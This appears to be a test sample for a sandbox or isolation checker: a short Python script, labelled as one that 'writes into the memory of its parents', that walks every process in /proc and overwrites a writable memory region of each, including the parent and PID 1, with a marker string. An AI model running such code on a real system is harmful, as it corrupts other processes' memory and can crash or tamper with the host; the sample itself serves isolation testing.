# class: touches
# what: writes into the memory of its parents
import os
for pid in [os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid == os.getpid():
        continue
    try:
        for line in open(f"/proc/{pid}/maps"):
            span, mode = line.split()[:2]
            if "w" in mode:
                with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                    memory.seek(int(span.split("-")[0], 16))
                    memory.write(b"gancourse-attack")
                break
    except OSError:
        pass
